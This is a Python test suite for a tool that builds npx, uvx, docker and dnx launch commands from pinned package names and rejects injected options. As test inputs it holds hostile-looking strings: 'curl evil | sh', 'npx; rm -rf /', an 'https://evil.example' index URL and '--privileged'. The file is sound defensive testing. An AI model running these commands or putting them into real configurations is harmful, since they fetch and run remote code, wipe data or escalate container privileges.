"""Packages become commands that name them exactly, and run nothing else."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_optimizer.config.packages.commands import Package, PackageKind, named_package, with_command
from mcp_optimizer.config.packages.draft import Argument, Draft, Gap, entry_of, word, words
from mcp_optimizer.errors import ConfigurationError

ALL = frozenset("npx uvx pipx docker podman dnx".split())


def command(package: Package, programs: frozenset[str] = ALL, **options: bool) -> list[str]:
    entry = entry_of(with_command(Draft("x"), package, programs, **options), {})
    return [entry["command"], *entry["args"]]


@pytest.mark.parametrize(
    ("kind", "text", "expected"),
    [
        (PackageKind.NPM, "@scope/pkg@1.2.3", "npx -y @scope/pkg@1.2.3"),
        (PackageKind.NPM, "pkg@1.2.3-beta.1", "npx -y pkg@1.2.3-beta.1"),
        (PackageKind.PYPI, "pkg==1.0", "uvx --from pkg==1.0 pkg"),
        (PackageKind.OCI, "ghcr.io/a/b:1.0", "docker run -i --rm ghcr.io/a/b:1.0"),
        (
            PackageKind.OCI,
            "localhost:5000/a@sha256:" + "a" * 64,
            "docker run -i --rm localhost:5000/a@sha256:" + "a" * 64,
        ),
        (PackageKind.NUGET, "Some.Server@1.0.0", "dnx Some.Server@1.0.0 --yes"),
    ],
)
def test_a_package_is_run_in_its_exact_version(kind: PackageKind, text: str, expected: str) -> None:
    assert command(named_package(kind, text)) == expected.split()


def test_another_runtime_is_used_where_the_usual_one_is_missing() -> None:
    pypi = Package(PackageKind.PYPI, "pkg", "1.0", script="run-it")
    assert command(pypi, frozenset({"pipx"})) == "pipx run --spec pkg==1.0 run-it".split()
    assert command(Package(PackageKind.OCI, "a:1"), frozenset({"podman"}))[0] == "podman"
    assert "not installed" in with_command(Draft("x"), pypi, frozenset()).notes[0]


def test_arguments_of_a_nuget_package_are_kept_from_its_runtime() -> None:
    package = Package(PackageKind.NUGET, "A", "1.0", arguments=words(["--source", "x"]))
    assert command(package) == ["dnx", "A@1.0", "--yes", "--", "--source", "x"]


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (PackageKind.NPM, "-x@1.0.0"),
        (PackageKind.NPM, "a;b@1.0.0"),
        (PackageKind.NPM, "git+https://example.com/x@1.0.0"),
        (PackageKind.NPM, "../x@1.0.0"),
        (PackageKind.NPM, "@/x@1.0.0"),
        (PackageKind.NPM, "pkg@latest"),
        (PackageKind.NPM, "pkg@^1.0.0"),
        (PackageKind.NPM, "pkg"),
        (PackageKind.PYPI, "pkg==1.*"),
        (PackageKind.PYPI, "pkg @ https://example.com==1"),
        (PackageKind.PYPI, "--index-url==1"),
        (PackageKind.OCI, "a"),
        (PackageKind.OCI, "a:latest"),
        (PackageKind.OCI, "--privileged"),
        (PackageKind.OCI, "a b:1"),
        (PackageKind.OCI, "A:1"),
        (PackageKind.NUGET, "A@[1.0,)"),
    ],
)
def test_what_is_no_exact_package_is_refused(kind: PackageKind, text: str) -> None:
    with pytest.raises(ConfigurationError):
        command(named_package(kind, text))


@given(st.sampled_from([*PackageKind][:4]), st.text(min_size=1, max_size=40), st.text(max_size=20))
def test_no_name_becomes_an_option_or_two_words(kind: PackageKind, identifier: str, version: str) -> None:
    try:
        found = command(Package(kind, identifier, version))
    except ConfigurationError:
        return
    named = next(one for one in found if identifier in one)
    assert not named.startswith("-")
    assert not set(named) & set(" \t\n;|&$`'\"<>(){}\\")


@pytest.mark.parametrize(
    ("kind", "options"),
    [
        (PackageKind.NPM, [Argument(("evil",), flag="--package")]),
        (PackageKind.NPM, [word("-c"), word("curl evil | sh")]),
        (PackageKind.NPM, [word("other-package")]),
        (PackageKind.NPM, [Argument(("other-package",), flag="--quiet")]),
        (PackageKind.NPM, [Argument((Gap("x"),))]),
        (PackageKind.PYPI, [Argument(("https://evil.example",), flag="--index-url")]),
        (PackageKind.PYPI, [word("--with=evil")]),
        (PackageKind.OCI, [Argument(("evil",), flag="--rm")]),
        (PackageKind.OCI, [Argument(flag="--name")]),
        (PackageKind.OCI, [Argument(("evil",), flag="--name=x")]),
        (PackageKind.OCI, [word("--privileged")]),
        (PackageKind.OCI, [word("-v"), Argument(("x",), flag="--init")]),
        (PackageKind.NUGET, [Argument(("https://evil.example",), flag="--source")]),
    ],
)
def test_options_with_which_other_code_would_run_need_the_users_word(
    kind: PackageKind, options: list[Argument]
) -> None:
    identifier = "a:1" if kind is PackageKind.OCI else "a"
    package = Package(kind, identifier, "1.0.0", runtime_arguments=tuple(options))
    with pytest.raises(ConfigurationError, match="--yes-run"):
        command(package)
    assert command(package, runs_anything=True)


def test_harmless_options_are_kept_and_named() -> None:
    options = (
        word("run"),
        word("--rm"),
        word("-v"),
        word("/x:/y"),
        Argument(("none",), flag="--network"),
        word("--init"),
    )
    package = Package(PackageKind.OCI, "a:1", runtime_arguments=options)
    assert command(package) == "docker run -i --rm -v /x:/y --network none --init a:1".split()
    notes = with_command(Draft("x"), package, ALL).notes
    assert [note for note in notes if "-v" in note or "--network" in note] != []


@pytest.mark.parametrize("runtime", ["bash", "/tmp/npx", "npx; rm -rf /", "docker"])
def test_a_runtime_that_is_not_known_for_the_kind_needs_the_users_word(runtime: str) -> None:
    package = Package(PackageKind.NPM, "a", "1.0.0", runtime=runtime)
    with pytest.raises(ConfigurationError, match="--yes-run"):
        command(package)
    assert command(package, runs_anything=True) == [runtime, "a@1.0.0"]
